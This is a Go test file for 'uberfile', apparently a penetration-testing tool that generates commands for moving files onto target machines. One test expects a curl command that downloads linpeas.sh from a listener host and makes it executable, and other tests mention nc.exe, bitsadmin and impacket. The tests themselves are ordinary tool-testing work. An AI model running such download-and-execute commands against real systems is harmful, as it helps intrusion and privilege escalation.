package cli

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/dpshade/uberfile/internal/errors"
	"github.com/dpshade/uberfile/internal/models"
)

func TestNormalizeArgs(t *testing.T) {
	tests := []struct {
		name string
		in   []string
		want []string
	}{
		{"short forms", []string{"-lh", "10.0.0.1", "-lp", "80"}, []string{"--lhost", "10.0.0.1", "--lport", "80"}},
		{"with value", []string{"-lh=10.0.0.1", "-lp=8080"}, []string{"--lhost=10.0.0.1", "--lport=8080"}},
		{"list untouched", []string{"-l"}, []string{"-l"}},
		{"long untouched", []string{"--lhost", "x", "-t", "linux"}, []string{"--lhost", "x", "-t", "linux"}},
		{"after double dash", []string{"-lp", "1", "--", "-lh"}, []string{"--lport", "1", "--", "-lh"}},
		{"empty", nil, []string{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, normalizeArgs(tt.in))
		})
	}
}

type result struct {
	code   int
	out    string
	errOut string
}

func run(t *testing.T, args ...string) result {
	t.Helper()
	var out, errOut bytes.Buffer
	code := Run(context.Background(), Streams{In: &bytes.Buffer{}, Out: &out, ErrOut: &errOut}, args)
	return result{code: code, out: out.String(), errOut: errOut.String()}
}

func isolate(t *testing.T) string {
	t.Helper()
	home := t.TempDir()
	t.Setenv("HOME", home)
	return home
}

func TestListIsIdempotent(t *testing.T) {
	isolate(t)

	first := run(t, "--list")
	second := run(t, "-l")
	require.Equal(t, 0, first.code, first.errOut)
	assert.Equal(t, first.out, second.out)
	assert.Contains(t, first.out, "Windows commands")
	assert.Contains(t, first.out, "Linux commands")
	assert.Contains(t, first.out, "   - net-use\n")
}

func TestCatalog(t *testing.T) {
	isolate(t)
	t.Setenv("GLAMOUR_STYLE", "notty")

	res := run(t, "--catalog")
	require.Equal(t, 0, res.code, res.errOut)
	assert.Contains(t, res.out, "bitsadmin")
}

func TestSessionWithoutMenus(t *testing.T) {
	isolate(t)
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, "linpeas.sh"), []byte("#!/bin/sh\n"), 0o644))

	res := run(t,
		"-t", "Linux", "-p", "http", "-lh", "10.0.0.1", "-lp", "8000",
		"-d", "curl", "-D", dir, "-f", "linpeas.sh", "-o", "/tmp/linpeas.sh", "--no-serve",
	)
	require.Equal(t, 0, res.code, res.errOut)
	assert.Contains(t, res.out, "curl http://10.0.0.1:8000/linpeas.sh -o /tmp/linpeas.sh; chmod +x /tmp/linpeas.sh")
	assert.Contains(t, res.out, "CLI command used")
	assert.Contains(t, res.out, "--target-os linux")
}

func TestSessionFailures(t *testing.T) {
	isolate(t)
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, "a.txt"), []byte("a"), 0o644))
	base := []string{"-lh", "10.0.0.1", "-lp", "21", "-D", dir, "-f", "a.txt", "-o", "a.txt", "--no-serve"}

	tests := []struct {
		name string
		args []string
		log  string
	}{
		{"bad target os", append([]string{"-t", "macos", "-p", "HTTP", "-d", "curl"}, base...), "VALIDATION_ERROR"},
		{"template protocol only", append([]string{"-t", "linux", "-p", "WEBDAV", "-d", "curl"}, base...), "VALIDATION_ERROR"},
		{"no template for type", append([]string{"-t", "linux", "-p", "HTTP", "-d", "ftp"}, base...), "NO_COMMANDS_FOR_TYPE"},
		{"bad port fails at server start", []string{"-t", "linux", "-p", "FTP", "-d", "ftp", "-lh", "x", "-lp", "99999", "-D", dir, "-f", "a.txt", "-o", "a.txt"}, "SERVER_START_ERROR"},
		{"unknown flag", []string{"--nope"}, "INVALID_INPUT"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := run(t, tt.args...)
			assert.Equal(t, 1, res.code)
			assert.Contains(t, res.errOut, tt.log)
		})
	}
}

func TestSessionPassesAddressesThrough(t *testing.T) {
	isolate(t)
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, "a.txt"), []byte("a"), 0o644))

	tests := []struct {
		name    string
		host    string
		port    string
		command string
	}{
		{"zoned ipv6", "fe80::1%eth0", "8000", "curl http://fe80::1%eth0:8000/a.txt -o a.txt"},
		{"underscore hostname", "kali_box", "8000", "curl http://kali_box:8000/a.txt -o a.txt"},
		{"leading zero port", "10.0.0.1", "08080", "curl http://10.0.0.1:08080/a.txt -o a.txt"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := run(t,
				"-t", "linux", "-p", "HTTP", "-d", "curl", "-lh", tt.host, "-lp", tt.port,
				"-D", dir, "-f", "a.txt", "-o", "a.txt", "--no-serve",
			)
			require.Equal(t, 0, res.code, res.errOut)
			assert.Contains(t, res.out, tt.command)
			assert.Contains(t, res.out, "--lport "+tt.port)
		})
	}
}

func TestSessionUnknownCommandTypeReachesRegistry(t *testing.T) {
	isolate(t)
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, "a.txt"), []byte("a"), 0o644))

	res := run(t, "-t", "linux", "-p", "HTTP", "-d", "Power Shell", "-lh", "10.0.0.1", "-lp", "80",
		"-D", dir, "-f", "a.txt", "-o", "a.txt", "--no-serve")
	assert.Equal(t, 1, res.code)
	assert.Contains(t, res.errOut, "NO_COMMANDS_FOR_TYPE")
}

func TestServeRequiresFile(t *testing.T) {
	isolate(t)
	res := run(t, "serve", "-p", "HTTP")
	assert.Equal(t, 1, res.code)
}

func TestServeMissingFile(t *testing.T) {
	isolate(t)
	res := run(t, "serve", "-p", "HTTP", "-D", t.TempDir(), "-f", "missing.bin")
	assert.Equal(t, 1, res.code)
	assert.Contains(t, res.errOut, "FILE_VALIDATION_ERROR")
}

func TestServeOptionsConfig(t *testing.T) {
	dir := t.TempDir()
	cfg, err := (&serveOptions{lhost: "0.0.0.0", protocol: "webdavs", inputFolder: dir, inputFile: "nc.exe"}).config()
	require.NoError(t, err)
	assert.Equal(t, models.ProtocolWebDAVS, cfg.Protocol)
	assert.Equal(t, "443", cfg.Port)
	assert.Equal(t, dir, cfg.Directory)
	assert.Equal(t, "nc.exe", cfg.InputFile)

	cfg, err = (&serveOptions{lhost: "0.0.0.0", lport: "2121", protocol: "FTPS", inputFile: "/opt/x/y.bin"}).config()
	require.NoError(t, err)
	assert.Equal(t, "2121", cfg.Port)
	assert.Equal(t, "/opt/x", cfg.Directory)

	_, err = (&serveOptions{lhost: "0.0.0.0", protocol: "gopher", inputFile: "a"}).config()
	assert.True(t, errors.HasCode(err, errors.ErrCodeValidation))
}

func TestConfigInitAndShow(t *testing.T) {
	isolate(t)
	path := filepath.Join(t.TempDir(), "uberfile.yaml")

	res := run(t, "--config", path, "config", "init")
	require.Equal(t, 0, res.code, res.errOut)
	assert.FileExists(t, path)

	res = run(t, "--config", path, "config", "init")
	assert.Equal(t, 1, res.code, "init refuses to overwrite")

	res = run(t, "--config", path, "--log-level", "debug", "config", "show")
	require.Equal(t, 0, res.code, res.errOut)
	assert.Contains(t, res.out, "level: debug")
	assert.Contains(t, res.out, "impacket")
}
